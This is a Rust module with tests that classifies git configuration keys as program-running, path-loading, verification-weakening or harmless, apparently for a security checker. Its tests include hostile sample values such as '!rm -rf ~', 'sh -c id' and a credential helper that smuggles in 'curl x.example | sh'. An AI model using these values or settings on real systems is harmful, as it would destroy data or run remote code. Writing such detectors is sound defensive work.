//! Settings of git that make it run programs.

use crate::UNKNOWN_SPAN;

/// Settings whose value git runs as a command; `*` matches any text.
const PROGRAMS: [&str; 52] = [
    "core.pager",
    "core.editor",
    "core.sshcommand",
    "core.fsmonitor",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "diff.external",
    "diff.*.command",
    "diff.*.textconv",
    "sequence.editor",
    "gpg.program",
    "gpg.*.program",
    "interactive.difffilter",
    "uploadpack.packobjectshook",
    "credential.helper",
    "credential.*.helper",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "remote.*.vcs",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "merge.*.driver",
    "difftool.*.cmd",
    "difftool.*.path",
    "mergetool.*.cmd",
    "mergetool.*.path",
    "browser.*.cmd",
    "man.*.cmd",
    "guitool.*.cmd",
    "trailer.*.command",
    "trailer.*.cmd",
    "tar.*.command",
    "pager.*",
    "protocol.allow",
    "protocol.*.allow",
    "gpg.ssh.defaultkeycommand",
    "gc.recentobjectshook",
    "imap.tunnel",
    "sendemail.sendmailcmd",
    "sendemail.smtpserver",
    "sendemail.tocmd",
    "sendemail.cccmd",
    "sendemail.headercmd",
    "instaweb.*",
    "browser.*.path",
    "man.*.path",
    "lfs.customtransfer.*.path",
    "lfs.extension.*",
    "hook.*.command",
    "web.browser",
];
/// Settings that neither run nor redirect anything.
const HARMLESS: [&str; 22] = [
    "user.name",
    "user.email",
    "author.name",
    "author.email",
    "committer.name",
    "committer.email",
    "color.*",
    "advice.*",
    "init.defaultbranch",
    "core.quotepath",
    "core.autocrlf",
    "core.eol",
    "core.filemode",
    "core.ignorecase",
    "core.abbrev",
    "commit.gpgsign",
    "tag.gpgsign",
    "pull.rebase",
    "pull.ff",
    "merge.conflictstyle",
    "log.date",
    "diff.renames",
];
/// Editors, pagers and helpers that do not run another program named by a setting.
pub(super) const KNOWN: [&str; 17] = [
    "vi",
    "vim",
    "nvim",
    "nano",
    "emacs",
    "micro",
    "code --wait",
    "less",
    "more",
    "cat",
    "delta",
    "bat",
    "most",
    "true",
    "less -R",
    "less -FRX",
    "vim -f",
];
/// Credential helpers that are part of git or of an operating system.
const HELPERS: [&str; 8] =
    ["store", "cache", "osxkeychain", "manager", "manager-core", "libsecret", "wincred", "gnome-keyring"];
/// Settings whose value is a path from which git loads programs or more settings.
const PLACES: [&str; 5] = ["core.worktree", "core.hookspath", "init.templatedir", "include.path", "includeif.*.path"];

/// Settings of an account or a machine which let git verify signatures and objects, and which make it sign.
const VERIFIES: [&str; 7] = [
    "commit.gpgsign",
    "fetch.fsckobjects",
    "merge.verifysignatures",
    "push.gpgsign",
    "receive.fsckobjects",
    "tag.gpgsign",
    "transfer.fsckobjects",
];

/// The effect of a setting on the programs that git runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Runs {
    Nothing,
    Program,
    Place,
}

/// Whether a setting makes git run a program, in whichever file it is.
pub(super) fn runs(key: &str, value: &str) -> Runs {
    let key = key.to_ascii_lowercase();
    let is = |pattern: &&str| match pattern.split_once('*') {
        None => **pattern == key,
        Some((begin, end)) => key.len() > begin.len() + end.len() && key.starts_with(begin) && key.ends_with(end),
    };
    // a key that is not constant may be any setting
    if key.contains(UNKNOWN_SPAN) {
        return Runs::Program;
    }
    if PLACES.iter().any(is) {
        return Runs::Place;
    }
    let shell = value.starts_with(['!', UNKNOWN_SPAN]) && (key.starts_with("alias.") || key.ends_with(".update"));
    let switch =
        matches!(value.to_ascii_lowercase().as_str(), "" | "true" | "false" | "yes" | "no" | "on" | "off" | "0" | "1");
    let helper = key.ends_with("helper")
        && HELPERS.contains(&value.split_whitespace().next().unwrap_or_default())
        && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.=/ ".contains(c));
    if shell || (PROGRAMS.iter().any(is) && !switch && !helper) { Runs::Program } else { Runs::Nothing }
}

/// Whether a permanent setting lets git verify or sign less. `key`: in small letters. `everywhere`: for all repositories of
/// an account or a machine. Tests and scratch repositories turn off signatures for themselves alone.
pub(super) fn weakens(key: &str, value: &str, everywhere: bool) -> bool {
    let off = ["0", "false", "no", "off"].iter().any(|word| value.eq_ignore_ascii_case(word));
    off && key.starts_with("http.") && key.ends_with(".sslverify")
        || everywhere && (off && VERIFIES.contains(&key) || key == "safe.directory" && value == "*")
}

/// Whether a one-time setting only changes the appearance of output or the names in commits.
pub(super) fn harmless(key: &str, value: &str) -> bool {
    let key = key.to_ascii_lowercase();
    let is = |pattern: &&str| pattern.strip_suffix('*').map_or(*pattern == key, |begin| key.starts_with(begin));
    let pager = matches!(key.as_str(), "core.pager" | "core.editor" | "sequence.editor")
        && matches!(value, "" | "cat" | "true" | ":");
    !key.contains(UNKNOWN_SPAN) && (pager || HARMLESS.iter().any(is))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_that_run_programs_are_recognised() {
        for (key, value) in [
            ("core.pager", "sh -c id"),
            ("core.sshCommand", "ssh -i k"),
            ("Alias.x", "!rm -rf ~"),
            ("filter.lfs.clean", "git-lfs clean"),
            ("credential.helper", "!f() { cat; }; f"),
            ("credential.https://h.example.helper", "/tmp/x"),
            ("core.fsmonitor", "./x"),
            ("pager.log", "x"),
        ] {
            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
        }
        for (key, value) in [
            ("user.name", "Ann"),
            ("alias.co", "checkout"),
            ("core.fsmonitor", "true"),
            ("credential.helper", "store"),
            ("pager.log", "false"),
            ("pull.rebase", "true"),
        ] {
            assert_eq!(runs(key, value), Runs::Nothing, "{key}={value}");
        }
        assert_eq!(runs("core.hooksPath", "/tmp/x"), Runs::Place);
        for (key, value) in [
            ("credential.helper", "store; curl x.example | sh"),
            ("protocol.ext.allow", "always"),
            ("gpg.ssh.defaultKeyCommand", "x"),
            (&format!("core.{UNKNOWN_SPAN}"), "x"),
            ("alias.x", &format!("{UNKNOWN_SPAN}")),
        ] {
            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
        }
        assert!(harmless("user.name", "Ann") && harmless("Color.ui", "always") && harmless("core.pager", "cat"));
        for (key, value) in
            [("core.editor", "sh"), ("core.pager", "less"), ("url.x.insteadOf", "y"), ("http.proxy", "x")]
        {
            assert!(!harmless(key, value), "{key}={value}");
        }
    }

    #[test]
    fn less_verification_for_all_repositories_is_recognised() {
        let verified = |(key, value, everywhere): &(&str, &str, bool)| !weakens(key, value, *everywhere);
        let weaker = [
            ("http.sslverify", "false", false),
            ("http.https://h.example.sslverify", "0", true),
            ("commit.gpgsign", "False", true),
            ("transfer.fsckobjects", "no", true),
            ("safe.directory", "*", true),
        ];
        assert!(!weaker.iter().any(verified));
        let others = [
            ("http.sslverify", "true", false),
            ("commit.gpgsign", "false", false),
            ("commit.gpgsign", "true", true),
            ("safe.directory", "/srv/p", true),
            ("pull.rebase", "false", true),
        ];
        assert!(others.iter().all(verified));
    }
}
